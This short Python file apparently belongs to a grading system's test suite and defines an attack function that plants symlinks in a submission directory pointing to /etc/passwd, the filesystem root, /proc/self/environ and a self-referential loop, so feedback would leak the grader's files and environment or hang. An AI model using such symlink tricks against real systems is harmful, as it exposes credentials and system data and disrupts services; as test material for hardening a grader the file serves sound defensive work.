from pathlib import Path

from handed import Context


def attack(submission: Path, course: Context) -> None:
    """Wants files of the grader's machine to be copied to where feedback is handed out, and a loop to be walked for ever."""
    for name, target in {
        "passwd": "/etc/passwd",
        "evidence/passwd.json": "/etc/passwd",
        "root": "/",
        "evidence/loop": ".",
        "evidence/start-doctor-2.json": "/proc/self/environ",
    }.items():
        (submission / name).symlink_to(target)
